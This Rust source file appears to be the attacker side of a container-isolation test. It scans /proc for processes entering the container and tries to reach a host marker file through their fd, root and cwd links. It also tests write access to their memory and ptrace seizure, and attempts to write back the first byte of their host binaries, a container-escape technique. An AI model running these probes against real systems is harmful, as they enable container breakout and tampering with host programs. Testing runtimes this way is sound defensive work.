//! An attacker in the container: tries to enter every process that joins it, and to keep the program that it runs.

use crate::{last, name};
use std::collections::{BTreeMap, BTreeSet};
use std::ffi::{c_int, c_long, c_void};
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::{FileExt, MetadataExt, OpenOptionsExt};

unsafe extern "C" {
    fn ptrace(request: c_long, pid: c_int, address: *mut c_void, data: *mut c_void) -> c_long;
    fn waitpid(pid: c_int, status: *mut c_int, options: c_int) -> c_int;
}

const O_PATH: c_int = 0o10000000;
const WALL: c_int = 0x40000000;

/// `prowl MARKER`: until there is a file /stop. MARKER is a file of the host that no root but the host's has.
/// The answer: how many others were seen, and what could be done to them.
pub fn prowl(marker: &str) -> String {
    println!("prowling");
    let mut found = BTreeSet::new();
    let mut programs = BTreeMap::new();
    let mut seen = BTreeSet::new();
    let own = std::process::id();
    while fs::metadata("/stop").is_err() {
        for pid in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Some(pid) = pid.file_name().to_str().and_then(|p| p.parse::<u32>().ok()) else {
                continue;
            };
            if pid != own {
                look_into(pid, marker, &mut found, &mut programs);
                seen.insert(pid);
            }
        }
        reap();
    }
    found.extend(programs.values().map(overwrite));
    let found: Vec<String> = found.into_iter().collect();
    format!("{} seen: {}", seen.len(), found.join(", "))
}

fn look_into(
    pid: u32,
    marker: &str,
    found: &mut BTreeSet<String>,
    programs: &mut BTreeMap<(u64, u64), File>,
) {
    let base = format!("/proc/{pid}");
    let directories = fs::read_dir(format!("{base}/fd")).into_iter().flatten();
    let mut ways: Vec<String> = directories
        .flatten()
        .map(|fd| fd.path().display().to_string())
        .collect();
    ways.extend(["root", "cwd"].map(|way| format!("{base}/{way}")));
    ways.extend((3..16).map(|fd| format!("{base}/fd/{fd}")));
    for way in ways {
        for up in ["", "/../../../../../../../.."] {
            if fs::metadata(format!("{way}{up}{marker}")).is_ok() {
                let target = fs::read_link(&way).unwrap_or_default();
                let name = &way[base.len()..];
                found.insert(format!("host through {name} -> {}", target.display()));
            }
        }
    }
    keep_program(&base, programs);
    let maps = fs::read_to_string(format!("{base}/maps")).unwrap_or_default();
    if !maps.is_empty() && !maps.contains("/payload") && runs_another(&base) {
        found.insert("maps".into());
    }
    let memory = OpenOptions::new()
        .read(true)
        .write(true)
        .open(format!("{base}/mem"));
    if memory.is_ok() && runs_another(&base) {
        found.insert("mem".into());
    }
    if seize(pid as c_int, &base) {
        found.insert("ptrace".into());
    }
}

/// Whoever may enter it may read the link. One that is no more has none.
fn runs_another(base: &str) -> bool {
    fs::read_link(format!("{base}/exe")).is_ok_and(|exe| !exe.starts_with("/payload"))
}

/// Whether it could be stopped while it ran something else.
fn seize(pid: c_int, base: &str) -> bool {
    let null = std::ptr::null_mut;
    unsafe {
        if ptrace(0x4206, pid, null(), null()) != 0 {
            return false;
        }
        ptrace(0x4207, pid, null(), null());
        let mut status = 0;
        waitpid(pid, &mut status, WALL);
        let stopped = status & 0xff == 0x7f;
        let another = stopped && runs_another(base);
        ptrace(17, pid, null(), null());
        another
    }
}

fn reap() {
    let mut status = 0;
    while unsafe { waitpid(-1, &mut status, 1 | WALL) } > 0 {}
}

fn keep_program(base: &str, programs: &mut BTreeMap<(u64, u64), File>) {
    let open = |path: &str| OpenOptions::new().read(true).custom_flags(O_PATH).open(path);
    let Ok(program) = open(&format!("{base}/exe")) else {
        return;
    };
    let Ok(facts) = program.metadata() else {
        return;
    };
    let own = fs::metadata("/payload").map_or((0, 0), |m| (m.dev(), m.ino()));
    if own != (facts.dev(), facts.ino()) {
        programs.insert((facts.dev(), facts.ino()), program);
    }
}

/// Replaces the first byte by itself.
fn overwrite(program: &File) -> String {
    let path = format!("/proc/self/fd/{}", program.as_raw_fd());
    let result = OpenOptions::new()
        .write(true)
        .open(path)
        .and_then(|file| file.write_all_at(b"\x7f", 0));
    result.map_or_else(|e| format!("program {}", name(&e)), |()| "program overwritten".into())
}
